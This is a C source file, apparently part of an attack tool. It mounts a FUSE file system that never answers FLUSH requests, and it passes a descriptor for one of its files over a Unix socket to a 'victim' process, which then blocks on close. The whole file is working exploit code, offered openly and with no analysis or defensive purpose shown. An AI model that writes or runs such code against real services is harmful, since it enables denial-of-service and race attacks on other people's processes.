/* A file system in user space (FUSE, fuse(4)) that never answers a close(2), and passes one of its files to a victim. */
#define _GNU_SOURCE
#include "attack.h"
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

enum { BUFFER = FUSE_MIN_READ_BUFFER + PAGE, ROOT = 1, FILE_NODE = 2, NOT_HERE = 3 };

/* Connects, and passes the file after the connection is accepted. Returns whether the file was passed. */
static int pass(const char *folder, const char *path) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  unsigned char bytes[MESSAGE] = {0};
  char name[256];
  int files[MOST_FILES], count, n;
  uint32_t type = CONNECT, user = getuid();
  uint64_t queue[2] = {next(), next()}, size = PAGE + RECORDS;
  snprintf(name, sizeof name, "%s/file", folder);
  strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  int file = open(name, O_RDWR | O_CLOEXEC), fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
  if (file < 0 || connect(fd, (struct sockaddr *) &address, sizeof address)) {
    perror(name);
    return 0;
  }
  put(bytes, put(bytes, put(bytes, put(bytes, 0, &type, 4), &MAGIC, 8), &user, 4), queue, 16);
  say(fd, bytes, 64, NULL, 0);
  struct pollfd polled = {fd, POLLIN, 0};
  do {
    poll(&polled, 1, -1);
    n = hear(fd, bytes, files, &count);
    memcpy(&type, bytes, 4);
  } while (n > 0 && type != ACCEPT);
  type = RING;
  put(bytes, put(bytes, 0, &type, 4), &size, 8);
  say(fd, bytes, 12, &file, 1);
  return n > 0;
}

static void answer(int device, uint64_t unique, int error, const void *body, size_t length) {
  unsigned char bytes[sizeof(struct fuse_out_header) + 256];
  struct fuse_out_header head = {(uint32_t) (sizeof head + length), -error, unique};
  put(bytes, put(bytes, 0, &head, sizeof head), body, length);
  if (write(device, bytes, sizeof head + length) < 0) {
    /* The request was interrupted. */
  }
}

static void serve(int device, const struct fuse_in_header *in) {
  struct fuse_attr attributes = {.ino = in->nodeid, .mode = in->nodeid == ROOT ? S_IFDIR | 0700 : S_IFREG | 0600, .nlink = 1, .size = PAGE};
  struct fuse_init_out greeting = {.major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION, .max_write = PAGE};
  struct fuse_entry_out entry = {.nodeid = FILE_NODE, .entry_valid = 100, .attr_valid = 100};
  struct fuse_attr_out attribute = {.attr_valid = 100, .attr = attributes};
  struct fuse_open_out opened = {.fh = 1};
  switch (in->opcode) {
    case FUSE_INIT: answer(device, in->unique, 0, &greeting, sizeof greeting); break;
    case FUSE_LOOKUP:
      entry.attr = attributes;
      entry.attr.ino = FILE_NODE;
      entry.attr.mode = S_IFREG | 0600;
      answer(device, in->unique, 0, &entry, sizeof entry);
      break;
    case FUSE_GETATTR: answer(device, in->unique, 0, &attribute, sizeof attribute); break;
    case FUSE_OPEN: answer(device, in->unique, 0, &opened, sizeof opened); break;
    case FUSE_FLUSH:
      printf("flush\n");
      break;
    case FUSE_FORGET: case FUSE_BATCH_FORGET: case FUSE_INTERRUPT: break;
    default: answer(device, in->unique, ENOSYS, NULL, 0);
  }
}

/* Serves the file system until it is killed. Returns NOT_HERE if it cannot be mounted. */
int stuck(const char *folder, const char *socket) {
  _Alignas(8) unsigned char bytes[BUFFER];
  char options[128];
  int device = open("/dev/fuse", O_RDWR | O_CLOEXEC);
  snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=%d,group_id=%d", device, getuid(), getgid());
  if (device < 0 || unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)
    || mount("attack", folder, "fuse", 0, options)) {
    perror("fuse");
    return NOT_HERE;
  }
  pid_t server = getpid();
  if (fork() == 0) {
    /* The file system exists until the last descriptor of its device is closed, so this process closes its copy. */
    close(device);
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    printf(pass(folder, socket) ? "passed\n" : "not passed\n");
    while (getppid() == server) {
      pause();
    }
    _exit(0);
  }
  for (;;) {
    ssize_t n = read(device, bytes, sizeof bytes);
    if (n >= (ssize_t) sizeof(struct fuse_in_header)) {
      serve(device, (struct fuse_in_header *) bytes);
    } else if (errno != EINTR && errno != ENOENT) {
      return 1;
    }
  }
}
